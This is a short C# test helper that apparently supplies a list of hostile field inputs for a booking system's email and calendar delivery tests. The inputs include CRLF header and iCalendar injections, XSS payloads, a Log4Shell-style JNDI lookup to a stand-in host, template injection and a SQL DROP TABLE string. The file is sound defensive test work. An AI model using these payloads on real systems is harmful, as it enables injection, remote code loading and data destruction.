namespace Handslaget.Booking.Web.Tests.Delivery;

/// <summary>What somebody who wants to break out of a field would write in it.</summary>
public static class Hostile
{
    public static TheoryData<string> Strings => [.. Texts];

    internal static readonly IReadOnlyList<string> Texts =
    [
        "x\r\nBcc: ond@ond.example",
        "x\nATTENDEE:mailto:ond@ond.example",
        "x\rMETHOD:CANCEL",
        "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:2",
        "x\";ROLE=CHAIR:mailto:ond@ond.example",
        "x\u2028X-INJECTED:1\u0085X-INJECTED:2",
        "x\r\n\r\n<script>alert(1)</script>",
        "<img src=https://ond.example/p.png onerror=alert(1)> & \"citat\" 'x'",
        "=?utf-8?Q?x=0D=0ABcc:_ond@ond.example?=",
        "x\0y\u202Egnp.exe\uD800\uFFFE^n^'\\n\\,;:\t",
        "ond@ond.example>, annan@ond.example",
        "{{7*7}} ${jndi:ldap://ond.example} '; DROP TABLE x; --",
    ];
}
